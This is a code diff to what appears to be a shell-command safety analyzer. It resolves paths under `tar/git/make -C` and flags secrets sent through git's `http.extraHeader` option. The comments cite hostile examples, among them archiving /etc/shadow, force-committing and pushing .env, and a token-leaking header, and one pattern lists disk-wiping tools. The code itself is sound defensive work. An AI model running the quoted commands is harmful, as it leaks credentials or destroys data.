@@ -14,6 +14,7 @@ import { sensitiveFileKind } from './egress/content.ts';
 import {
   analyzeHost,
   analyzeUrl,
+  contentFindings,
   DEFAULT_EGRESS_SETTINGS,
   type EgressSettings,
   isTrustedHost,
@@ -1351,7 +1352,23 @@ function dispatch(words: Field[], walk: Walk, stdin?: Stream): Stream | undefine
   }
   // A disk tool's device operand is judged as destruction below, not as a path read.
   const deviceTool = /^(?:mkfs.*|mke2fs|mkswap|mkdosfs|dd|shred|wipefs|blkdiscard)$/.test(name);
-  judgePathsInArgs(deviceTool ? args.filter((a) => !isBlockDevice(a.text.replace(/^of=/, ''))) : args, walk);
+  const pathArgs = deviceTool ? args.filter((a) => !isBlockDevice(a.text.replace(/^of=/, ''))) : args;
+  // `tar -C / -czf x etc/shadow`, `git -C /root …`, `make -C dir`: operands resolve in that directory.
+  const chdir = /^(?:tar|gtar|bsdtar|git|make|gmake)$/.test(name)
+    ? args.findIndex((a) => a.text === '-C' || a.text.startsWith('--directory='))
+    : -1;
+  const dir =
+    chdir < 0
+      ? undefined
+      : args[chdir]!.text === '-C'
+        ? args[chdir + 1]
+        : { ...args[chdir]!, text: args[chdir]!.text.slice(12) };
+  if (dir !== undefined && !dir.dynamic) {
+    const saved = walk.ctx;
+    walk.ctx = { ...saved, cwd: { ...saved.paths, workspace: normalizePath(dir.text, saved.cwd) } };
+    judgePathsInArgs(pathArgs, walk);
+    walk.ctx = saved;
+  } else judgePathsInArgs(pathArgs, walk);
 
   if (name === 'cd' || name === 'pushd') {
     // Later relative paths resolve against the new directory.
@@ -2142,6 +2159,18 @@ function rememberLink(args: Field[], walk: Walk): void {
 
 /** `git add -f .env && git commit … && git push …`: the secret leaves with the push. */
 function judgeGitStaging(texts: readonly string[], walk: Walk): void {
+  // `git -c http.extraHeader='X-Leak: <token>' ls-remote https://host/…`: a header git sends.
+  const remote = texts.find((t) => /^https?:\/\//i.test(t));
+  for (let k = 0; k < texts.length; k++) {
+    const m =
+      texts[k] === '-c'
+        ? /^http\.(?:[^=]*\.)?extraheader=([^:]{1,64}):\s*(.+)$/is.exec(texts[k + 1] ?? '')
+        : null;
+    if (m === null) continue;
+    const host = remote === undefined ? 'the remote' : (hostOf(remote) ?? 'the remote');
+    if (host !== 'the remote' && isTrustedHost(host, walk.ctx.egress)) continue;
+    walk.findings.push(...contentFindings(host, { headers: { [m[1]!.trim()]: m[2]!.trim() } }));
+  }
   const sub = texts.findIndex((t, k) => !t.startsWith('-') && !/^-[cC]$/.test(texts[k - 1] ?? ''));
   if (texts[sub] === 'add') {
     for (const t of texts.slice(sub + 1))
